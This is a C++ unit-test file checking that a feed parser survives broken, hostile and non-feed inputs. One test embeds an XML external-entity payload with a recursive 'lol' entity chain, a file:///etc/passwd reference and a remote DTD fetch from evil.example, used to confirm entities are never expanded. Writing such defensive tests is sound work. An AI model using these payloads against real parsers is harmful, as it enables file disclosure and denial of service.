// SPDX-License-Identifier: Apache-2.0
// Feeds that are broken, hostile, or no feeds: what is good comes out, and the problem is named.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "unit/feed/feed_case.h"

namespace broadsheet::feed {
namespace {

using testing::HasSubstr;

constexpr auto kGood = "<rss><channel><item><link>/1</link></item>";

TEST(BrokenFeed, GivesWhatCameBeforeTheBreak) {
  const auto feed = read(std::string(kGood) + "\n<item><link>/2</title></item></channel></rss>");

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_THAT(feed.problem, HasSubstr("line 2, column "));
  EXPECT_THAT(feed.problem, HasSubstr("mismatched tag"));
}

TEST(BrokenFeed, ThatBreaksOffGivesItsWholeEntries) {
  const auto feed = read(std::string(kGood) + "<item><link>/2</li");

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_NE(feed.problem, "");
}

TEST(BrokenFeed, NoiseBeforeAndBehindIsPassedOver) {
  const auto good = rss_item("<link>/1</link>");
  for (const auto& text : {
           "\n\n  " + good,
           "\xEF\xBB\xBF" + good,
           "\xEF\xBB\xBF\n" + good,
           "<br />\n<b>Warning</b>: mysql_connect() in <b>/a.php</b><br />\n" + good,
           "Notice: undefined index\n" + good,
           "<!-- cached -->" + good,
           good + "\n<script>count()</script> & more < junk",
           good + std::string("\0\0", 2),
           "<!DOCTYPE rss PUBLIC \"-//Netscape//DTD RSS 0.91//EN\" \"http://x.example/rss.dtd\">" +
               good.substr(21),
       }) {
    const auto feed = read(text);
    EXPECT_EQ(feed.entries.size(), 1U) << text << "\n" << feed.problem;
    EXPECT_FALSE(feed.truncated) << text;
  }
}

TEST(BrokenFeed, NamesTheLineOfTheFileAsServed) {
  const auto feed = read("junk\njunk\n<?xml version='1.0'?>\n<!-- a\nb -->\n<rss>\n</rdf>");

  EXPECT_THAT(feed.problem, HasSubstr("line 7"));
}

TEST(BrokenFeed, BareAmpersandsAndControlsAreForgiven) {
  const auto entry = read_item(
      "<link>https://a.example/?a=1&b=2&copy=3</link><title>R&D \x01\x0B& &unknown; <3</title>");

  EXPECT_EQ(entry.url.href(), "https://a.example/?a=1&b=2&copy=3");
  EXPECT_EQ(entry.title, "R&D & &unknown; <3");
}

TEST(BrokenFeed, AttributesAreForgivenToo) {
  const auto feed =
      read("<feed><entry><link href='https://a.example/?a=1&b=<2>&eacute;'/></entry></feed>");

  ASSERT_EQ(feed.entries.size(), 1U) << feed.problem;
  EXPECT_EQ(feed.entries[0].url.href(), "https://a.example/?a=1&b=%3C2%3E%C3%A9");
}

TEST(BrokenFeed, IsReadInTheEncodingItHas) {
  const auto title = [](std::string_view text) {
    const auto feed = read(text);
    return feed.entries.empty() ? feed.problem : feed.entries[0].title;
  };
  const auto with = [](std::string_view encoding, std::string_view bytes) {
    return "<?xml version=\"1.0\" encoding=\"" + std::string(encoding) +
           "\"?><rss><channel><item><link>/a</link><title>" + std::string(bytes) +
           "</title></item></channel></rss>";
  };

  EXPECT_EQ(title(with("ISO-8859-1", "Caf\xE9 \x93x\x94")), "Café “x”");
  EXPECT_EQ(title(with("windows-1251", "\xCC\xE8\xF0")), "Мир");
  EXPECT_EQ(title(with("Shift_JIS", "\x93\xFA\x96\x7B")), "日本");
  EXPECT_EQ(title(with("iso-8859-1", "Café")), "Café");
  EXPECT_EQ(title(with("utf-16", "Café")), "Café");
  EXPECT_EQ(title(with("no-such-encoding", "plain")), "plain");
  std::string wide = "\xFF\xFE";
  for (const char c : with("utf-16", "wide")) wide += {c, '\0'};
  EXPECT_EQ(title(wide), "wide");
}

TEST(HostileFeed, EntitiesAreNeverExpanded) {
  const auto feed = read(R"(<?xml version="1.0"?>
<!DOCTYPE lolz [ <!-- don't "fall" for ]> this -->
 <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;"><!ENTITY x SYSTEM "file:///etc/passwd">
 <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>
<rss><channel><item><link>/1</link><title>&lol2; &x;</title></item></channel></rss>)");

  ASSERT_EQ(feed.entries.size(), 1U) << feed.problem;
  EXPECT_EQ(feed.entries[0].title, "&lol2; &x;");
}

TEST(HostileFeed, DepthHasABound) {
  std::string text = kGood;
  for (int i = 0; i < 100'000; ++i) text += "<a>";

  const auto feed = read(text);

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_THAT(feed.problem, HasSubstr("nested deeper than 64"));
}

TEST(HostileFeed, BytesHaveABound) {
  Limits limits;
  limits.bytes_max = 100;
  const auto feed = read(std::string(kGood) + std::string(1000, ' '), limits);

  EXPECT_EQ(feed.entries.size(), 1U);
  EXPECT_TRUE(feed.truncated);
  EXPECT_THAT(feed.problem, HasSubstr("longer than"));
}

// Work that grew with the square of the input would outlive the test's time-out.
TEST(HostileFeed, HugeTagsTextsAndSectionsAreReadOnce) {
  constexpr std::size_t kMuch = 1 << 20;
  for (const auto& text : {
           "<rss><channel><item a='" + std::string(kMuch, 'x'),
           "<rss><channel><title>" + std::string(kMuch, 'x'),
           "<rss><channel><title><![CDATA[" + std::string(kMuch, ']'),
           "<rss><!--" + std::string(kMuch, '-'),
           "<rss>" + std::string(kMuch, '&'),
           std::string(kMuch, '<'),
       }) {
    EXPECT_NE(read(text).problem, "");
  }
}

TEST(NoFeed, SaysWhatItIsInstead) {
  EXPECT_EQ(read("").problem, "there is nothing in it");
  EXPECT_EQ(read(" \n").problem, "there is nothing in it");
  EXPECT_EQ(read("<!doctype html><html><body>404</body></html>").problem,
            "this is HTML, not a feed");
  EXPECT_EQ(read("<!-- x --><HTML lang=en>").problem, "this is HTML, not a feed");
  EXPECT_EQ(read("Not found").problem, "this is neither XML nor JSON");
  EXPECT_THAT(read("<?xml version='1.0'?><opml/>").problem, HasSubstr("<opml>"));
  EXPECT_THAT(read("{\"error\": 1}").problem, HasSubstr("no JSON Feed"));
  for (const auto* text : {"", "Not found", "<html>", "{", "<opml/>", "\xFF\xFE", "<", "<?xml"}) {
    EXPECT_EQ(read(text).kind, Kind::kNone) << text;
    EXPECT_NE(read(text).problem, "") << text;
    EXPECT_FALSE(read(text).truncated) << text;
  }
}

}  // namespace
}  // namespace broadsheet::feed
